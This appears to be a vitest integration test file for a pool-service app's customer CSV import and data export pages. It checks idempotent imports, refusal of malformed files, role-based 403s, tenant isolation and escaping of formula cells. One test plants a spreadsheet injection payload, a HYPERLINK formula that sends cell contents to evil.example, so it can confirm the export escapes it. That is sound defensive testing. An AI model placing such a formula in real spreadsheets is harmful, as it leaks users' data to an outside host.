// The import and export pages as a browser of each role reaches them (issue #17, docs/product.md "Import"): an upload
// shows its columns, "Preview" writes nothing, "Import" writes once per key and says what changed, a re-import says
// "0 new", bad files get plain words and leave nothing behind; the exports escape formulas; a technician gets 403 and
// another company's user gets nothing of this company.
import { eq, sql } from 'drizzle-orm'
import { unzipSync } from 'fflate'
import { beforeAll, describe, expect, it } from 'vitest'
import { MAX_FILE_BYTES, TOO_LARGE } from '~/customer-import/read-csv.server'
import { companies, customers, invoices, payments } from '~/db/schema'
import { FILE_TOO_LARGE, MAX_CSV_BYTES, UPLOAD_GONE } from '~/features/customer-import/import-schema'
import { KEY_REUSED } from '~/models/idempotency.server'
import { db, queryRows } from '~/utils/db.server'
import { takeFlash } from '~/utils/flash.server'
import { deleteObject, getObject, putObject } from '~/utils/storage.server'
import { addTestCustomer } from '../../../tests/helpers/customers'
import { formRequest, pageRequest, routeArgs, settle, statusOf, TEST_ORIGIN } from '../../../tests/helpers/requests'
import { signInAs } from '../../../tests/helpers/session'
import { useDemoData } from '../../../tests/helpers/test-database'
import { loader as exportCsv } from '../resources/customers-export'
import { loader as exportZip } from '../resources/data-export'
import { action, loader } from './customers-import'

const encode = (text: string) => new TextEncoder().encode(text)

type Column = { index: number; header: string; field: string; sample: string | null }
type PageData = {
  importKey: string
  uploadGone: boolean
  upload: { id: string; rows: number; encoding: string; delimiter: string; columns: Column[] } | null
}
type Reply = {
  intent: string
  result: { status?: string; error?: Record<string, string[] | null> }
  preview: {
    counts: string
    changes: Array<{ label: string; text: string }>
    problems: string[]
    rowsWithProblems: number
  } | null
}

const GOOD = [
  'Customer Name,Email,Phone,Service Address,City,State,Zip,Gallons,Service Day,Technician,Rate',
  'Rita Moreno,rita@import.test,(813) 555-0150,10 Palm Ave,Tampa,FL,33602,15000,Monday,,$90',
  'Olu Bankole,olu@import.test,,22 Bay Rd,Tampa,FL,33611,"15,000",Tuesday,,$85',
  'Hana Sato,hana@import.test,,5 Lake Dr,Tampa,FL,33629,12k,Wednesday,,$80',
].join('\r\n')

let owner: string
let dispatcher: string
let tech: string
let otherOwner: string
let blueId: string

async function companyIdOf(name: string) {
  const [row] = await db().select({ id: companies.id }).from(companies).where(eq(companies.name, name))
  return row?.id ?? ''
}

async function customerCount(companyId: string) {
  const [row] = await queryRows<{ n: number }>(
    sql`select count(*)::int as n from customers where company_id = ${companyId}`,
  )
  return row?.n ?? 0
}

function uploadRequest(cookie: string, bytes: Uint8Array, name = 'customers.csv') {
  const form = new FormData()
  form.set('intent', 'upload')
  form.set('file', new File([new Uint8Array(bytes)], name, { type: 'text/csv' }))
  return new Request(`${TEST_ORIGIN}/app/customers/import`, { method: 'POST', headers: { cookie }, body: form })
}

/** Uploads like the page's form; the upload id from the redirect, or the refusal. */
async function upload(cookie: string, bytes: Uint8Array) {
  const { returned, thrown } = await settle(action(routeArgs(uploadRequest(cookie, bytes))))
  if (thrown instanceof Response) {
    const location = thrown.headers.get('Location') ?? ''
    expect(location).toMatch(/^\/app\/customers\/import\?upload=[0-9a-f-]{36}$/)
    return { uploadId: location.split('=')[1] as string, refusal: null }
  }
  const value = (returned ?? thrown) as { data: Reply; init?: { status?: number } }
  return { uploadId: null, refusal: { status: value.init?.status, message: value.data.result.error?.file?.join(' ') } }
}

async function page(cookie: string, uploadId?: string) {
  const path = uploadId ? `/app/customers/import?upload=${uploadId}` : '/app/customers/import'
  const result = (await loader(routeArgs(pageRequest(path, cookie)))) as unknown
  const value = result as { data?: PageData; init?: { status?: number } }
  return value.data ? { ...value.data, status: value.init?.status ?? 200 } : { ...(result as PageData), status: 200 }
}

const post = (cookie: string, fields: Record<string, string>) => formRequest('/app/customers/import', fields, cookie)

/** The page's form as it is posted: the upload, each column's select, and the rest. */
function mappingFields(uploadId: string, columns: Column[], extra: Record<string, string> = {}) {
  return {
    upload: uploadId,
    ...Object.fromEntries(columns.map((column) => [`columns[${column.index}]`, column.field])),
    ...extra,
  }
}

async function preview(cookie: string, uploadId: string, columns: Column[]) {
  const result = (await action(routeArgs(post(cookie, { intent: 'preview', ...mappingFields(uploadId, columns) })))) as
    | Reply
    | { data: Reply; init?: { status?: number } }
  return 'data' in result ? { ...result.data, status: result.init?.status } : { ...result, status: 200 }
}

/** "Import": the flash message it redirects with, or its refusal. */
async function importIt(cookie: string, uploadId: string, columns: Column[], extra: Record<string, string>) {
  const fields = { intent: 'import', ...mappingFields(uploadId, columns, extra) }
  const { returned, thrown } = await settle(action(routeArgs(post(cookie, fields))))
  if (thrown instanceof Response) {
    expect(thrown).toHaveRedirect('/app/customers')
    const flashCookie = thrown.headers.getSetCookie().map((c) => c.split(';')[0])
    const { flash } = await takeFlash(pageRequest('/app/customers', flashCookie.join('; ')))
    return { message: flash?.text ?? '', refusal: null }
  }
  const value = returned as { data: Reply; init?: { status?: number } }
  return { message: null, refusal: { status: value.init?.status, errors: value.data.result.error?.[''] } }
}

beforeAll(async () => {
  await useDemoData()
  owner = await signInAs('owner@bluelagoon.test')
  dispatcher = await signInAs('dispatch@bluelagoon.test')
  tech = await signInAs('tech@bluelagoon.test')
  otherOwner = await signInAs('owner@sunsetpools.test')
  blueId = await companyIdOf('Blue Lagoon Pool Co.')
})

describe('importing customers', () => {
  it('the page reads the file cap the import reads', () => {
    expect(MAX_CSV_BYTES).toBe(MAX_FILE_BYTES)
    expect(FILE_TOO_LARGE).toBe(TOO_LARGE)
  })

  it('upload → columns → Preview writes nothing → Import once per key → a re-import says 0 new', async () => {
    const before = await customerCount(blueId)
    const { uploadId } = await upload(dispatcher, encode(GOOD))
    const shown = await page(dispatcher, uploadId ?? '')
    expect(shown.upload).toMatchObject({ rows: 3, encoding: 'UTF-8', delimiter: 'commas' })
    const columns = shown.upload?.columns ?? []
    expect(columns.map((c) => c.field)).toEqual([
      'customerName',
      'email',
      'phone',
      'street',
      'city',
      'state',
      'postalCode',
      'gallons',
      'serviceDay',
      'technician',
      'rate',
    ])
    expect(columns[0]?.sample).toBe('Rita Moreno')

    const previewed = await preview(dispatcher, uploadId ?? '', columns)
    expect(previewed.status).toBe(200)
    expect(previewed.preview?.counts).toBe('3 customers, 3 service locations, 3 bodies of water, 3 service plans')
    expect(previewed.preview?.problems).toEqual([])
    expect(previewed.preview?.changes[0]).toEqual({ label: 'Customers', text: '3 new, 0 unchanged' })
    expect(await customerCount(blueId)).toBe(before)

    const key = crypto.randomUUID()
    const first = await importIt(dispatcher, uploadId ?? '', columns, { idempotencyKey: key })
    expect(first.message).toContain('Customers: 3 new, 0 unchanged.')
    expect(await customerCount(blueId)).toBe(before + 3)
    // The same form sent twice (a double click, a retry): one import, the same answer.
    const again = await importIt(dispatcher, uploadId ?? '', columns, { idempotencyKey: key })
    expect(again.message).toBe(first.message)
    expect(await customerCount(blueId)).toBe(before + 3)

    // The same file uploaded and imported again changes nothing.
    const second = await upload(dispatcher, encode(GOOD))
    const secondColumns = (await page(dispatcher, second.uploadId ?? '')).upload?.columns ?? []
    const reimport = await importIt(dispatcher, second.uploadId ?? '', secondColumns, {
      idempotencyKey: crypto.randomUUID(),
    })
    expect(reimport.message).toContain('Customers: 0 new, 3 unchanged.')
    expect(await customerCount(blueId)).toBe(before + 3)
  })

  it('two copies of one Import sent at the same moment make one import', async () => {
    const before = await customerCount(blueId)
    const file = GOOD.replaceAll('@import.test', '@twice.test').replaceAll(' Moreno', ' Twice')
    const { uploadId } = await upload(owner, encode(file))
    const columns = (await page(owner, uploadId ?? '')).upload?.columns ?? []
    const key = crypto.randomUUID()
    const [a, b] = await Promise.all([
      importIt(owner, uploadId ?? '', columns, { idempotencyKey: key }),
      importIt(owner, uploadId ?? '', columns, { idempotencyKey: key }),
    ])
    expect(a.message).toContain('Customers: 3 new, 0 unchanged.')
    expect(b.message).toBe(a.message)
    expect(await customerCount(blueId)).toBe(before + 3)
  })

  it('a column set to "Don\'t import" is left out, and a mapping without a name is refused in words', async () => {
    const { uploadId } = await upload(owner, encode(GOOD))
    const columns = (await page(owner, uploadId ?? '')).upload?.columns ?? []
    const noName = columns.map((c) => (c.index === 0 ? { ...c, field: 'none' } : c))
    const refused = await preview(owner, uploadId ?? '', noName)
    expect(refused.status).toBe(400)
    expect(refused.result.error?.['']?.join(' ')).toContain('No column is set to Customer name')
  })

  it('rows with problems are listed in plain words and nothing is written until they are fixed or skipped', async () => {
    const before = await customerCount(blueId)
    const file = [
      'Customer Name,Email,Service Address,City,State,Zip,Gallons,Technician',
      'Ana Ruiz,ana@import.test,1 Oak St,Tampa,FL,33602,15000,',
      'Ben Cole,ben@,2 Oak St,Tampa,FL,33602,lots,Nobody Known',
      'Cy Park,cy@import.test,3 Oak St,Tampa,FL,33602,9000,',
    ].join('\n')
    const { uploadId } = await upload(dispatcher, encode(file))
    const columns = (await page(dispatcher, uploadId ?? '')).upload?.columns ?? []
    const previewed = await preview(dispatcher, uploadId ?? '', columns)
    expect(previewed.preview?.rowsWithProblems).toBe(1)
    expect(previewed.preview?.problems.length).toBeGreaterThan(0)
    for (const problem of previewed.preview?.problems ?? []) expect(problem).toMatch(/^Row 3: /)
    expect(previewed.preview?.problems.join(' ')).toContain("'ben@'")

    const refused = await importIt(dispatcher, uploadId ?? '', columns, { idempotencyKey: crypto.randomUUID() })
    expect(refused.refusal?.status).toBe(400)
    expect(refused.refusal?.errors?.join(' ')).toContain('1 row has problems')
    expect(await customerCount(blueId)).toBe(before)

    const skipped = await importIt(dispatcher, uploadId ?? '', columns, {
      idempotencyKey: crypto.randomUUID(),
      skipRowsWithProblems: 'on',
    })
    expect(skipped.message).toContain('Customers: 2 new, 0 unchanged.')
    expect(skipped.message).toContain('Skipped row with problems: 3.')
    expect(await customerCount(blueId)).toBe(before + 2)
  })

  it('a file in the wrong shape or encoding is refused in plain words and nothing is kept', async () => {
    const before = await customerCount(blueId)
    const oneColumn = await upload(dispatcher, encode('Name\nRita Moreno\nOlu Bankole\n'))
    expect(oneColumn.refusal?.status).toBe(400)
    expect(oneColumn.refusal?.message).toContain('every line has a single value')

    const workbook = await upload(dispatcher, new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0]))
    expect(workbook.refusal?.status).toBe(400)
    expect(workbook.refusal?.message).toMatch(/CSV/)

    const binary = await upload(dispatcher, encode('Name,Address\u0000\u0001\u0002\nA\u0000,B\u0003\n'))
    expect(binary.refusal?.status).toBe(400)
    expect(binary.refusal?.message).toMatch(/CSV/)

    const empty = await upload(dispatcher, new Uint8Array())
    expect(empty.refusal?.status).toBe(400)
    expect(await customerCount(blueId)).toBe(before)
  })

  it('a file over 10 MB is told to be split, without the rest of it being read', async () => {
    const big = new Uint8Array(MAX_CSV_BYTES + 200 * 1024).fill(0x61)
    const refused = await upload(dispatcher, big)
    expect(refused.refusal).toEqual({ status: 400, message: TOO_LARGE })
  })

  it('a file of 8,000 columns is refused in plain words', async () => {
    const header = Array.from({ length: 8000 }, (_, i) => `c${i}`).join(',')
    const row = Array.from({ length: 8000 }, () => '1').join(',')
    const refused = await upload(dispatcher, encode([header, row, row].join('\n')))
    expect(refused.refusal).toEqual({
      status: 400,
      message:
        'This file has 8,000 columns; Pool Bud reads at most 200. Remove the columns you do not need and upload it again.',
    })
  })

  it('viewing an upload again reads what the upload stored, never the file again', async () => {
    const { uploadId } = await upload(dispatcher, encode(GOOD))
    const first = await page(dispatcher, uploadId ?? '')
    expect(first.upload?.rows).toBe(3)
    // Whatever the stored file now holds, the page shows what was read at upload: the file is not parsed per view.
    await putObject(`customer-imports/${blueId}/${uploadId}.csv`, encode('garbage'), 'text/csv')
    expect(await page(dispatcher, uploadId ?? '')).toEqual({ ...first, importKey: expect.any(String) })
    // An upload kept before summaries were is read once, and its summary kept from then on.
    const older = await upload(dispatcher, encode(GOOD))
    await deleteObject(`customer-imports/${blueId}/${older.uploadId}.json`)
    const shown = await page(dispatcher, older.uploadId ?? '')
    expect(shown.upload?.columns.map((column) => column.header)).toEqual(first.upload?.columns.map((c) => c.header))
    expect(await getObject(`customer-imports/${blueId}/${older.uploadId}.json`)).not.toBeNull()
  })

  it("an upload id that is not this company's (or is gone) shows nothing of it", async () => {
    const sunsetId = await companyIdOf('Sunset Pool Care')
    const sunsetBefore = await customerCount(sunsetId)
    const { uploadId } = await upload(owner, encode(GOOD))
    const theirs = await page(otherOwner, uploadId ?? '')
    expect(theirs).toMatchObject({ status: 404, upload: null, uploadGone: true })
    const columns = (await page(owner, uploadId ?? '')).upload?.columns ?? []
    const previewed = await preview(otherOwner, uploadId ?? '', columns)
    expect(previewed.status).toBe(404)
    expect(previewed.preview).toBeNull()
    expect(previewed.result.error?.['']).toEqual([UPLOAD_GONE])
    const imported = await importIt(otherOwner, uploadId ?? '', columns, { idempotencyKey: crypto.randomUUID() })
    expect(imported.refusal?.status).toBe(404)
    expect(await customerCount(sunsetId)).toBe(sunsetBefore)
  })

  it('answers an intent no form sends with the 400 error page', async () => {
    const { thrown } = await settle(action(routeArgs(post(dispatcher, { intent: 'delete-all' }))))
    expect(statusOf(thrown)).toBe(400)
    expect((thrown as { data?: unknown }).data).toBe('Unknown action.')
  })

  it('a technician gets 403 on the page, its actions and both exports', async () => {
    for (const attempt of [
      (): Promise<unknown> => loader(routeArgs(pageRequest('/app/customers/import', tech))),
      () => action(routeArgs(uploadRequest(tech, encode(GOOD)))),
      () => action(routeArgs(post(tech, { intent: 'preview' }))),
      () => exportCsv(routeArgs(pageRequest('/app/customers/export.csv', tech))),
      () => exportZip(routeArgs(pageRequest('/app/settings/export.zip', tech))),
    ]) {
      const { thrown } = await settle(attempt())
      expect(statusOf(thrown)).toBe(403)
    }
    // "Export all data" is the owner's and admins', not the dispatcher's.
    const { thrown } = await settle(exportZip(routeArgs(pageRequest('/app/settings/export.zip', dispatcher))))
    expect(statusOf(thrown)).toBe(403)
  })
})

describe('exports', () => {
  it('"Export customers (CSV)" downloads this company\'s customers with formula cells escaped', async () => {
    await addTestCustomer(blueId, {
      customerName: '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
      address: '9 Evil Way, Tampa, FL 33602',
      email: 'evil@import.test',
    })
    const response = (await exportCsv(routeArgs(pageRequest('/app/customers/export.csv', dispatcher)))) as Response
    expect(response.status).toBe(200)
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="customers-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    const text = await response.text()
    expect(text).toContain('Marcus Bell')
    expect(text).not.toContain('Marco Ruiz')
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Invoice"")"`)
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)

    const theirs = await (
      (await exportCsv(routeArgs(pageRequest('/app/customers/export.csv', otherOwner)))) as Response
    ).text()
    expect(theirs).toContain('Marco Ruiz')
    expect(theirs).not.toContain('Marcus Bell')
    expect(theirs).not.toContain('HYPERLINK')
  })

  it('"Export all data" is a ZIP of CSVs of this company only, formulas escaped', async () => {
    const response = (await exportZip(routeArgs(pageRequest('/app/settings/export.zip', owner)))) as Response
    expect(response.headers.get('Content-Type')).toBe('application/zip')
    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="pool-bud-export-/)
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()))
    expect(Object.keys(files)).toEqual([
      'customers.csv',
      'locations.csv',
      'bodies-of-water.csv',
      'service-plans.csv',
      'visits.csv',
      'readings.csv',
      'invoices.csv',
      'payments.csv',
      'quotes.csv',
    ])
    const read = (name: string) => new TextDecoder().decode(files[name]).replace(/^\uFEFF/, '')
    const customersCsv = read('customers.csv')
    expect(customersCsv).toContain('Marcus Bell')
    expect(customersCsv).not.toContain('Marco Ruiz')
    expect(customersCsv).toContain(`"'=HYPERLINK(`)
    const [blueCustomers] = await queryRows<{ n: number }>(
      sql`select count(*)::int as n from ${customers} where company_id = ${blueId}`,
    )
    expect(customersCsv.trim().split('\r\n')).toHaveLength((blueCustomers?.n ?? 0) + 1)
    expect(read('visits.csv').split('\r\n').length).toBeGreaterThan(2)
    expect(read('readings.csv').split('\r\n').length).toBeGreaterThan(2)
    // Billing comes along: every invoice and payment of this company, with the ids that tie them to customers.
    const [blueBilling] = await queryRows<{ invoices: number; payments: number }>(
      sql`select (select count(*)::int from ${invoices} where company_id = ${blueId}) as invoices,
                 (select count(*)::int from ${payments} where company_id = ${blueId}) as payments`,
    )
    const invoicesCsv = read('invoices.csv').trim().split('\r\n')
    expect(invoicesCsv[0]).toBe(
      'Invoice ID,Customer ID,Number,Period start,Period end,Issued on,Due on,Subtotal,Tax,Total,Credit applied,Paid,Status,Voided at',
    )
    expect(blueBilling?.invoices).toBeGreaterThan(0)
    expect(invoicesCsv).toHaveLength((blueBilling?.invoices ?? 0) + 1)
    expect(read('payments.csv').trim().split('\r\n')).toHaveLength((blueBilling?.payments ?? 0) + 1)

    const theirs = unzipSync(
      new Uint8Array(
        await (
          (await exportZip(routeArgs(pageRequest('/app/settings/export.zip', otherOwner)))) as Response
        ).arrayBuffer(),
      ),
    )
    expect(new TextDecoder().decode(theirs['customers.csv'])).not.toContain('Marcus Bell')
  })
})

describe('"Import": a key is bound to its user, its file and its choices', () => {
  const fileOf = (tag: string) => GOOD.replaceAll('@import.test', `@${tag}.test`).replaceAll(' Moreno', ` ${tag}`)
  const uploaded = async (cookie: string, tag: string) => {
    const { uploadId } = await upload(cookie, encode(fileOf(tag)))
    return { uploadId: uploadId ?? '', columns: (await page(cookie, uploadId ?? '')).upload?.columns ?? [] }
  }

  it('the same key with another file, other choices or by another user is refused (422); nothing imported', async () => {
    const before = await customerCount(blueId)
    const key = crypto.randomUUID()
    const a = await uploaded(dispatcher, 'bound-a')
    const first = await importIt(dispatcher, a.uploadId, a.columns, { idempotencyKey: key })
    expect(first.message).toContain('Customers: 3 new, 0 unchanged.')
    // A true copy (a double click) gets the first answer.
    expect((await importIt(dispatcher, a.uploadId, a.columns, { idempotencyKey: key })).message).toBe(first.message)

    const b = await uploaded(dispatcher, 'bound-b')
    const refused = { message: null, refusal: { status: 422, errors: [KEY_REUSED] } }
    expect(await importIt(dispatcher, b.uploadId, b.columns, { idempotencyKey: key })).toEqual(refused)
    const skipping = { idempotencyKey: key, skipRowsWithProblems: 'on' }
    expect(await importIt(dispatcher, a.uploadId, a.columns, skipping)).toEqual(refused)
    expect(await importIt(owner, a.uploadId, a.columns, { idempotencyKey: key })).toEqual(refused)
    expect(await customerCount(blueId)).toBe(before + 3)
  })

  it('two different files racing with one key: one is imported, the other refused (422)', async () => {
    const before = await customerCount(blueId)
    const key = crypto.randomUUID()
    const [a, b] = [await uploaded(owner, 'race-a'), await uploaded(owner, 'race-b')]
    const answers = await Promise.all([
      importIt(owner, a.uploadId, a.columns, { idempotencyKey: key }),
      importIt(owner, b.uploadId, b.columns, { idempotencyKey: key }),
    ])
    expect(answers.filter((answer) => answer.message?.includes('3 new'))).toHaveLength(1)
    expect(answers.filter((answer) => answer.refusal?.status === 422)).toHaveLength(1)
    expect(await customerCount(blueId)).toBe(before + 3)
  })
})
